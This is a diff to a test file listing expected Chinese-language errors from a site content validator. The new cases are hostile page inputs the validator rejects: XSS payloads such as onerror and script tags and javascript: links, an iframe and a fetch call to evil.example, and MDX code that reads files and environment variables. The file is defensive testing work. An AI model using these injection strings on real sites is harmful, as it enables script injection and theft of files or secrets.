@@ -101,6 +101,47 @@ export const EXPECTED: Record<string, string[]> = {
   'multiline-line-numbers': [
     "E036 data/problems.csv:4 列 reported：“2018-13-02”这个日期不存在（请检查月份和日期）",
   ],
+  'page-components': [
+    "E102 content/pages/parts.mdx:6:1：页面里没有组件 Legend（可以用的组件：ProblemStatusLegend（问题整改状态的图例）、SectionHeading（带固定锚点的二级标题，其他页面可以链接到 #锚点），不用 import 就能直接使用）",
+    "E102 content/pages/parts.mdx:8:1：组件 SectionHeading 的属性 id 的值“Samples”不对（允许：小写英文字母开头，只含小写字母、数字和连字符 -，例如 samples）",
+    "E102 content/pages/parts.mdx:8:1：组件 SectionHeading 没有属性 level（它的属性：id；写法：<SectionHeading id=\"samples\">哪些数据是示例</SectionHeading>）",
+    "E102 content/pages/parts.mdx:10:1：组件 SectionHeading 缺少属性 id（写法：<SectionHeading id=\"samples\">哪些数据是示例</SectionHeading>）",
+    "E100 content/pages/parts.mdx:12:1：页面里不能写 HTML 标签“<h2 id=\"samples\">标题</h2>”（要给标题加固定的锚点，请写 <SectionHeading id=\"锚点\">标题</SectionHeading>）",
+    "E100 content/pages/parts.mdx:14:1：页面里不能写 HTML 标签“<img src=\"x\" onError=\"window.__pwned=1\" />”（页面只能用 Markdown 的写法：## 标题、- 列表、**加粗**、[文字](网址)；需要别的格式，请开发人员在 src/ 中加组件）",
+  ],
+  'page-front-matter': [
+    "E104 content/pages/about.mdx:1：文件头缺少“description”（一句话说明这一页）",
+    "E104 content/pages/about.mdx:3：文件头里不能写“layout”（只能写 title 和 description；layout 会让生成网站时引入别的文件）",
+    "E104 content/pages/about.mdx:4：文件头里“title”写了两次（第 2 行已经写过）",
+  ],
+  'page-html': [
+    "E100 content/pages/notice.md:6:1：页面里不能写 HTML 标签“<meta http-equiv=\"refresh\" content=\"0;ur…”（页面只能用 Markdown 的写法：## 标题、- 列表、**加粗**、[文字](网址)；需要别的格式，请开发人员在 src/ 中加组件）",
+    "E100 content/pages/notice.md:8:4：页面里不能写 HTML 标签“<img src=x onerror=\"window.__pwned=1\">”（页面只能用 Markdown 的写法：## 标题、- 列表、**加粗**、[文字](网址)；需要别的格式，请开发人员在 src/ 中加组件）",
+    "E100 content/pages/notice.md:8:80：页面里不能写 HTML 注释“<!-- 待核实：联系电话 13800000000 -->”（注释在页面上看不见，却会原样发布在网页的源代码里；不想发布的文字请删掉）",
+    "E100 content/pages/notice.md:10:1：页面里不能写 HTML 标签“<script>window.__pwned=1</script>”（页面只能用 Markdown 的写法：## 标题、- 列表、**加粗**、[文字](网址)；需要别的格式，请开发人员在 src/ 中加组件）",
+    "E100 content/pages/notice.md:12:1：页面里不能写 HTML 标签“<iframe src=\"https://evil.example/\"></if…”（页面只能用 Markdown 的写法：## 标题、- 列表、**加粗**、[文字](网址)；需要别的格式，请开发人员在 src/ 中加组件）",
+  ],
+  'page-links': [
+    "E103 content/pages/links.md:6:1：链接地址“javascript:alert(1)”不允许（允许：以 http:// 或 https:// 开头的网址、mailto: 邮件地址、tel: 电话号码，或本站内的相对地址，例如 ../plan/gushan-2017/）",
+    "E103 content/pages/links.md:6:28：链接地址“javascript:alert(1)”不允许（允许：以 http:// 或 https:// 开头的网址、mailto: 邮件地址、tel: 电话号码，或本站内的相对地址，例如 ../plan/gushan-2017/）",
+    "E103 content/pages/links.md:6:50：链接地址“data:text/html,<b>x</b>”不允许（允许：以 http:// 或 https:// 开头的网址、mailto: 邮件地址、tel: 电话号码，或本站内的相对地址，例如 ../plan/gushan-2017/）",
+    "E103 content/pages/links.md:8:1：链接地址“VBScript:msgbox(1)”不允许（允许：以 http:// 或 https:// 开头的网址、mailto: 邮件地址、tel: 电话号码，或本站内的相对地址，例如 ../plan/gushan-2017/）",
+    "E103 content/pages/links.md:12:1：页面里不能插入图片“![现场照片](../../src/assets/secret.png)”（网站只显示本站自己的图片，页面文件夹中也不能放图片；需要图片请联系开发人员）",
+  ],
+  'page-mdx-code': [
+    "E101 content/pages/tools.mdx:6:1：import ProblemStatusLegend 的路径“./ProblemStatusLegend.astro”不是组件 src/components/ProblemStatusLegend.astro（应写成 import ProblemStatusLegend from '../../../../../../src/components/ProblemStatusLegend.astro'，也可以删掉这一行：ProblemStatusLegend 不用 import 就能直接使用）",
+    "E101 content/pages/tools.mdx:7:1：页面里不能 import “node:fs”（只能使用本站为页面准备的组件：ProblemStatusLegend（问题整改状态的图例）、SectionHeading（带固定锚点的二级标题，其他页面可以链接到 #锚点），它们不用 import 就能直接使用；页面是内容，不是程序；需要计算或读取数据的，请开发人员写在 src/ 中，按代码审查）",
+    "E101 content/pages/tools.mdx:8:1：import SectionHeading 的路径“../../../../../../src/components/../lib/…”不是组件 src/components/SectionHeading.astro（应写成 import SectionHeading from '../../../../../../src/components/SectionHeading.astro'，也可以删掉这一行：SectionHeading 不用 import 就能直接使用）",
+    "E101 content/pages/tools.mdx:9:1：页面里不能写 export（“export const secret = fs.readFileSync('/…”：页面是内容，不是程序；需要计算或读取数据的，请开发人员写在 src/ 中，按代码审查）",
+    "E101 content/pages/tools.mdx:13:4：页面里不能写表达式“{secret}”（花括号中的内容会在生成网站时当作程序运行；页面是内容，不是程序；需要计算或读取数据的，请开发人员写在 src/ 中，按代码审查。要显示花括号本身，请写成 \\{ 和 \\}）",
+    "E101 content/pages/tools.mdx:13:16：页面里不能写表达式“{process.env.HOME}”（花括号中的内容会在生成网站时当作程序运行；页面是内容，不是程序；需要计算或读取数据的，请开发人员写在 src/ 中，按代码审查。要显示花括号本身，请写成 \\{ 和 \\}）",
+    "E101 content/pages/tools.mdx:13:38：页面里不能写表达式“{1+1}”（花括号中的内容会在生成网站时当作程序运行；页面是内容，不是程序；需要计算或读取数据的，请开发人员写在 src/ 中，按代码审查。要显示花括号本身，请写成 \\{ 和 \\}）",
+    "E101 content/pages/tools.mdx:15:1：组件 SectionHeading 的属性 id 只能写固定的值，不能写表达式“{fetch('https://evil.example/').then(Stri…}”（写法：<SectionHeading id=\"samples\">哪些数据是示例</SectionHeading>；页面是内容，不是程序；需要计算或读取数据的，请开发人员写在 src/ 中，按代码审查）",
+    "E101 content/pages/tools.mdx:15:1：组件 SectionHeading 不能写“{...props}”（属性只能一个一个写成 名字=\"值\"；页面是内容，不是程序；需要计算或读取数据的，请开发人员写在 src/ 中，按代码审查）",
+  ],
+  'page-mdx-syntax': [
+    "E105 content/pages/methodology.mdx:10:1：.mdx 页面里不能写 HTML 注释 <!-- -->：注释会原样发布在网页的源代码里；不想发布的备注请写成 {/* 备注 */}，或者删掉（解析器的原话：Unexpected character `!` (U+0021) before name, expected a character that can start a name, such as a letter, `$`, or `_`…）",
+  ],
   'plan-anchor-duplicate': [
     "E080 content/plan/mini.md:16：锚点“s1”重复，第 10 行已经使用（锚点必须唯一）",
     "E062 data/indicators.csv:3 列 section：“s2-1”不是 content/plan/mini.md 中的章节锚点（现有的锚点：s1、s2）",
